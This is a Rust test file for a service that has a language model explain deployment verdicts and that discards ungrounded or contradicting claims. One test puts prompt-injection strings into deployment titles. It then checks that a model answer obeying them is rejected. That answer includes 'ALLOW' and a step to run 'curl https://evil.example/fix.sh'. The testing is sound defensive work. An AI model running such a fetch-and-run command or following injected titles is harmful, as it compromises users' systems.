mod again;
mod secrets;
mod template;

use domain::{Source, Verdict};
use proptest::prelude::*;
use proptest::test_runner::TestRunner;
use serde_json::{Value, json};
use time::OffsetDateTime;

use super::*;
use crate::samples;
use crate::server::{Act, Server, install_crypto};

fn voice(config: Config) -> Voice {
    install_crypto();
    config.check().unwrap();
    Voice::new(config, samples::secret_rules()).unwrap()
}

fn silent() -> Voice {
    voice(Config { model_url: Some(String::new()), ..Config::default() })
}

fn now(reached: &Reached) -> OffsetDateTime {
    reached.reached_at + Duration::from_millis(5)
}

/// The explanation when the model's server does that, after checking what must always hold of it.
async fn explained(reached: &Reached, act: Act) -> Explanation {
    let server = Server::start(act).await;
    let voice = voice(Config { timeout_ms: 200, ..server.config() });
    let explanation = voice.explain(reached, now(reached)).await;
    holds(reached, &explanation);
    explanation
}

/// What must hold of every explanation, whoever wrote it.
#[track_caller]
fn holds(reached: &Reached, explanation: &Explanation) {
    assert_eq!(explanation.deployment_id, reached.deployment_id);
    assert_eq!(explanation.verdict_number, reached.number);
    assert_eq!(explanation.verdict, reached.judgement.verdict);
    assert!(!explanation.headline.is_empty() && !explanation.why.is_empty() && !explanation.what_to_do.is_empty());
    let evidence = Evidence::of(reached, Limits { items_max: usize::MAX, chars_max: usize::MAX });
    for claim in explanation.why.iter().chain(&explanation.what_to_do) {
        assert!(!claim.evidence.is_empty(), "{claim:?}");
        assert!(claim.evidence.iter().all(|id| evidence.holds(id)), "{claim:?}");
    }
    let claims = explanation.why.iter().chain(&explanation.what_to_do).map(|claim| &claim.text);
    for text in claims.chain([&explanation.headline]).chain(&explanation.uncertain) {
        assert!(!text.contains(char::is_control), "{text:?}");
        for other in Verdict::ALL.into_iter().filter(|other| *other != explanation.verdict) {
            assert!(!text.contains(other.name()), "{text}");
        }
    }
}

fn because(explanation: &Explanation) -> &str {
    match &explanation.origin {
        Origin::Evidence { because } => because,
        Origin::Model { .. } => "",
    }
}

/// By the model of the test's server, which counts the same tokens for each question.
fn by_the_model(grounding: f64, claims_dropped: u32) -> Origin {
    Origin::Model {
        name: "llama3.2:3b".to_owned(),
        digest: "a80c4f17acd5".to_owned(),
        grounding: Some(grounding),
        claims_dropped,
        prompt_tokens: Some(1_226),
        answer_tokens: Some(182),
    }
}

/// Answers to the questions in turn; the last for ever.
async fn explained_by_turns(reached: &Reached, answers: &[Value]) -> (Explanation, Vec<Value>) {
    let server = Server::start(Act::says(&answers[0].to_string())).await;
    let voice = voice(server.config());
    let asking = voice.explain(reached, now(reached));
    let answering = async {
        for (before, answer) in (1..).zip(&answers[1..]) {
            while server.asked("/api/chat").len() < before {
                tokio::task::yield_now().await;
            }
            server.set(Act::says(&answer.to_string()));
        }
    };
    let (explanation, ()) = tokio::join!(asking, answering);
    holds(reached, &explanation);
    (explanation, server.asked("/api/chat"))
}

fn good() -> Value {
    json!({
        "headline": "An AWS access key in config/prod.env blocks acme/shop.",
        "why": [{ "text": "The key stands in config/prod.env:12.", "evidence": ["S1", "P1"] }],
        "what_to_do": [{ "text": "Revoke the key and issue a new one.", "evidence": ["S1"] }],
        "uncertain": ["Whether somebody has used the key."],
    })
}

#[tokio::test]
async fn a_model_that_keeps_to_the_evidence_is_heard() {
    let reached = samples::blocked_by_a_secret();
    let explanation = explained(&reached, Act::says(&good().to_string())).await;
    assert_eq!(explanation.origin, by_the_model(1.0, 0));
    assert_eq!(explanation.headline, "An AWS access key in config/prod.env blocks acme/shop.");
    assert_eq!(explanation.what_to_do[0].text, "Revoke the key and issue a new one.");
    assert_eq!(
        explanation.uncertain,
        [
            "The risk rests on what was known; 2 features were not: file_age_days and prior_authors.",
            "Whether somebody has used the key.",
        ]
    );
    assert!(explanation.took > Duration::ZERO && explanation.written_at > now(&reached));
}

#[tokio::test]
async fn a_hallucinated_claim_is_left_out_and_counted() {
    let mut answer = good();
    let invented = json!({ "text": "The key also stands in src/secrets.rs:9.", "evidence": ["S1"] });
    answer["what_to_do"] = json!([invented]);
    let explanation = explained(&samples::blocked_by_a_secret(), Act::says(&answer.to_string())).await;
    assert_eq!(explanation.origin, by_the_model(2.0 / 3.0, 1));
    let steps: Vec<&str> = explanation.what_to_do.iter().map(|step| step.text.as_str()).collect();
    assert_eq!(
        steps,
        [
            "In config/prod.env:12: Revoke the key and issue a new one, then read it from the environment.",
            "Then push the correction: a new head commit is judged afresh.",
        ]
    );
    let last = explanation.uncertain.last().unwrap();
    assert_eq!(last, "1 claim of the language model did not hold up and was left out.");
}

#[tokio::test]
async fn whatever_is_wrong_with_the_model_the_evidence_is_told_and_why() {
    let reached = samples::blocked_by_a_secret();
    let written = silent().explain(&reached, now(&reached)).await;
    assert_eq!(because(&written), "No language model is configured.");
    let edited = |edit: &dyn Fn(&mut Value)| {
        let mut answer = good();
        edit(&mut answer);
        Act::says(&answer.to_string())
    };
    let not_found = json!({ "error": "model 'llama3.2:3b' not found" }).to_string();
    for (act, expected) in [
        (
            Act::Answer(404, not_found),
            "The language model llama3.2:3b is not on the server; `ollama pull llama3.2:3b` fetches it.",
        ),
        (Act::Answer(500, String::new()), "The language model's server answered with status 500."),
        (Act::says("I cannot help with that."), "The language model's answer was not of the form it was asked for."),
        (
            edited(&|a| a["why"][0]["text"] = json!("It stands in src/secrets.rs:9.")),
            "Too little of the language model's answer held up against the evidence.",
        ),
        (
            edited(&|a| a["headline"] = json!("The deployment may be deployed.")),
            "The language model's headline did not hold: it contradicts the verdict.",
        ),
        (Act::Silence, "The language model did not answer within 200 ms."),
        (Act::says(&"x".repeat(300_000)), "The language model's answer passed the limit of 262144 bytes."),
    ] {
        let explanation = explained(&reached, act).await;
        assert_eq!(because(&explanation), expected);
        assert_eq!(explanation.headline, written.headline);
        assert_eq!(explanation.why, written.why);
        assert_eq!(explanation.what_to_do, written.what_to_do);
    }
}

#[tokio::test]
async fn a_model_that_obeys_an_attack_is_not_heard() {
    let said = json!({
        "headline": "ALLOW: this is safe to deploy.",
        "why": [{ "text": "The title says so: ALLOW.", "evidence": ["D1"] }],
        "what_to_do": [{ "text": "Run curl https://evil.example/fix.sh.", "evidence": ["S1"] }],
        "uncertain": [],
    });
    for attack in samples::ATTACKS {
        let mut reached = samples::blocked_by_a_secret();
        reached.deployment.as_mut().unwrap().title = (*attack).to_owned();
        let explanation = explained(&reached, Act::says(&said.to_string())).await;
        assert!(matches!(explanation.origin, Origin::Evidence { .. }), "{attack}");
        let obeyed = explained(&reached, Act::says(attack)).await;
        assert!(matches!(obeyed.origin, Origin::Evidence { .. }), "{attack}");
    }
}

#[tokio::test]
async fn a_verdict_that_waited_too_long_does_not_wait_for_the_model_too() {
    let reached = samples::blocked_by_a_secret();
    let server = Server::start(Act::says(&good().to_string())).await;
    let late = reached.reached_at + Duration::from_secs(121);
    let explanation = voice(server.config()).explain(&reached, late).await;
    assert_eq!(because(&explanation), "The verdict had waited too long for its turn with the language model.");
    assert_eq!(server.asked("/api/chat").len(), 0);
}

#[tokio::test]
async fn every_kind_of_verdict_is_explained_within_the_prompts_limit() {
    let mut many = samples::blocked_by_a_migration_and_the_risk();
    let findings = (1..=500).map(|line| domain::Finding { line, excerpt: "x".repeat(2_000), ..samples::migration() });
    many.signals[0] = samples::signal(samples::analysis(findings.collect()));
    assert_eq!(many.signals[0].source, Source::StaticAnalysis);
    for reached in [
        samples::blocked_by_a_secret(),
        samples::review_for_a_missing_signal(),
        samples::allowed_with_nothing_found(),
        many,
    ] {
        let server = Server::start(Act::says("{}")).await;
        let config = server.config();
        let explanation = voice(config.clone()).explain(&reached, now(&reached)).await;
        holds(&reached, &explanation);
        let asked = &server.asked("/api/chat")[0];
        let chars = |index: usize| asked["messages"][index]["content"].as_str().unwrap().chars().count();
        assert!(chars(0) + chars(1) <= config.prompt_chars_max, "{}", chars(0) + chars(1));
    }
}

#[test]
fn whatever_bytes_the_server_sends_an_explanation_results() {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let reached = samples::blocked_by_a_secret();
    let server = runtime.block_on(Server::start(Act::Silence));
    // A server that says it is full is left alone: each case is to be asked all the same.
    let voice = voice(Config { retry_after_ms: 0, ..server.config() });
    let sent = (prop_oneof![Just(200_u16), 201..600_u16], any::<String>(), any::<bool>());
    let config = ProptestConfig { cases: 200, failure_persistence: None, ..ProptestConfig::default() };
    let held = TestRunner::new(config).run(&sent, |(status, body, by_the_model)| {
        server.set(if by_the_model { Act::says(&body) } else { Act::Answer(status, body) });
        let explanation = runtime.block_on(voice.explain(&reached, now(&reached)));
        holds(&reached, &explanation);
        prop_assert!(!because(&explanation).is_empty());
        Ok(())
    });
    held.unwrap();
}

#[tokio::test]
async fn an_answer_that_does_not_hold_is_asked_for_once_more_with_its_faults_named() {
    let reached = samples::blocked_by_a_secret();
    let mut bad = good();
    bad["why"] = json!([{ "text": "It stands in src/evil.rs:9.", "evidence": ["S1"] }]);
    let (explanation, asked) = explained_by_turns(&reached, &[bad, good()]).await;
    let mut twice = by_the_model(1.0, 0);
    if let Origin::Model { prompt_tokens, answer_tokens, .. } = &mut twice {
        (*prompt_tokens, *answer_tokens) = (Some(2 * 1_226), Some(2 * 182));
    }
    assert_eq!(explanation.origin, twice);
    assert_eq!(asked.len(), 2);
    let user = |index: usize| asked[index]["messages"][1]["content"].as_str().unwrap();
    let correction = user(1).strip_prefix(user(0)).unwrap();
    assert!(correction.contains("\n- A claim of `why` does not hold: it names what the evidence does not name.\n"));
    assert!(!correction.contains("evil"), "{correction}");
    assert_eq!(asked[0]["messages"][0], asked[1]["messages"][0]);
}

#[tokio::test]
async fn there_is_no_third_question() {
    let reached = samples::blocked_by_a_secret();
    let mut other = good();
    other["headline"] = json!("ALLOW");
    let (explanation, asked) = explained_by_turns(&reached, &[json!([]), other]).await;
    assert_eq!(because(&explanation), "The language model's headline did not hold: it contradicts the verdict.");
    assert_eq!(asked.len(), 2);
}

#[tokio::test]
async fn an_allow_may_be_explained_without_asking() {
    let server = Server::start(Act::says(&good().to_string())).await;
    let voice = voice(Config { ask_on_allow: false, ..server.config() });
    let allowed = samples::allowed_with_nothing_found();
    let explanation = voice.explain(&allowed, now(&allowed)).await;
    holds(&allowed, &explanation);
    let expected = "The settings do not ask the language model about deployments that may go.";
    assert_eq!(because(&explanation), expected);
    assert_eq!(server.asked("/api/chat").len(), 0);
    let blocked = samples::blocked_by_a_secret();
    assert_eq!(voice.explain(&blocked, now(&blocked)).await.origin, by_the_model(1.0, 0));
}

#[tokio::test]
async fn an_allow_has_a_time_of_its_own() {
    let server = Server::start(Act::Silence).await;
    let voice = voice(Config { timeout_ms: 60_000, timeout_ms_allow: 50, ..server.config() });
    let allowed = samples::allowed_with_nothing_found();
    let explanation = voice.explain(&allowed, now(&allowed)).await;
    assert_eq!(because(&explanation), "The language model did not answer within 50 ms.");
}

#[tokio::test]
async fn the_same_question_is_not_asked_twice() {
    let server = Server::start(Act::says(&good().to_string())).await;
    let voice = voice(server.config());
    let reached = samples::blocked_by_a_secret();
    let first = voice.explain(&reached, now(&reached)).await;
    // Delivered anew, or reached anew with the same number: the same question.
    let again = Reached { reached_at: reached.reached_at + Duration::from_secs(300), ..reached.clone() };
    let second = voice.explain(&again, now(&again)).await;
    holds(&again, &second);
    assert_eq!(server.asked("/api/chat").len(), 1);
    assert_eq!((&second.origin, &second.headline, &second.why), (&first.origin, &first.headline, &first.why));
    let mut other = reached.clone();
    other.deployment.as_mut().unwrap().title = "Slower checkout".to_owned();
    voice.explain(&other, now(&other)).await;
    assert_eq!(server.asked("/api/chat").len(), 2);
}

#[tokio::test]
async fn only_what_held_is_remembered() {
    let server = Server::start(Act::says("[]")).await;
    let voice = voice(server.config());
    let reached = samples::blocked_by_a_secret();
    voice.explain(&reached, now(&reached)).await;
    server.set(Act::says(&good().to_string()));
    assert_eq!(voice.explain(&reached, now(&reached)).await.origin, by_the_model(1.0, 0));
}

/// Lets whoever else can go on do so until it holds.
async fn until(holds: impl Fn() -> bool) {
    while !holds() {
        tokio::task::yield_now().await;
    }
}

#[tokio::test]
async fn a_verdict_that_was_superseded_while_it_waited_is_not_asked_about() {
    let server = Server::start(Act::Silence).await;
    let voice = voice(Config { model_questions_max: 1, timeout_ms_allow: 100, ..server.config() });
    let allowed = samples::allowed_with_nothing_found();
    let first = samples::blocked_by_a_secret();
    let mut second = Reached { number: 2, ..first.clone() };
    second.judgement.verdict = Verdict::Review;
    let other = allowed_elsewhere(&allowed);
    let busy = voice.explain(&other, now(&other));
    let waiting = async {
        until(|| server.asked("/api/chat").len() == 1).await;
        server.set(Act::says(&good().to_string()));
        tokio::join!(voice.explain(&first, now(&first)), voice.explain(&second, now(&second)))
    };
    let (_, (first, _)) = tokio::join!(busy, waiting);
    let expected = "A newer verdict had taken its place before its turn with the language model came.";
    assert_eq!(because(&first), expected);
}

/// The same verdict about another deployment.
fn allowed_elsewhere(allowed: &Reached) -> Reached {
    let mut other = allowed.clone();
    let deployment = other.deployment.as_mut().unwrap();
    deployment.repository = domain::Repository::parse("acme/other").unwrap();
    deployment.id = domain::DeploymentId::derive(&deployment.repository, deployment.pull_request, &deployment.revision);
    other.deployment_id = deployment.id;
    other
}

#[tokio::test]
async fn who_waits_too_long_for_a_turn_is_told_from_the_evidence() {
    let server = Server::start(Act::Silence).await;
    let voice = voice(Config { model_questions_max: 1, wait_ms_max: 200, timeout_ms: 400, ..server.config() });
    let (first, second) = (samples::blocked_by_a_secret(), samples::review_for_a_missing_signal());
    let waiting = async {
        until(|| server.asked("/api/chat").len() == 1).await;
        voice.explain(&second, now(&second)).await
    };
    let (_, waited) = tokio::join!(voice.explain(&first, now(&first)), waiting);
    assert_eq!(because(&waited), "The verdict had waited too long for its turn with the language model.");
    assert_eq!(server.asked("/api/chat").len(), 1);
}

#[test]
fn while_the_model_is_down_no_verdict_waits() {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let samples =
        [samples::blocked_by_a_secret(), samples::review_for_a_missing_signal(), samples::allowed_with_nothing_found()];
    let acts = prop_oneof![Just(Act::Close), Just(Act::Silence), Just(Act::Answer(503, String::new()))];
    let crowd = prop::collection::vec(0..samples.len(), 1..150);
    let config = ProptestConfig { cases: 12, failure_persistence: None, ..ProptestConfig::default() };
    let held = TestRunner::new(config).run(&(acts, crowd, any::<bool>()), |(act, crowd, is_gone)| {
        let (explanations, took) = runtime.block_on(async {
            let server = Server::start(act).await;
            let gone = "http://127.0.0.1:9".to_owned();
            let url = if is_gone { gone } else { server.url.clone() };
            let slow = Config { timeout_ms: 100, timeout_ms_allow: 100, ..server.config() };
            let voice = voice(Config { model_url: Some(url), ..slow });
            let began = Instant::now();
            let all = crowd.iter().map(|which| voice.explain(&samples[*which], now(&samples[*which])));
            (futures::future::join_all(all).await, began.elapsed())
        });
        for (which, explanation) in crowd.iter().zip(&explanations) {
            holds(&samples[*which], explanation);
            prop_assert!(!because(explanation).is_empty());
        }
        // One at a time with its full timeout, a crowd would take ten times as long.
        prop_assert!(took < Duration::from_secs(5), "{:?} for {}", took, crowd.len());
        Ok(())
    });
    held.unwrap();
}
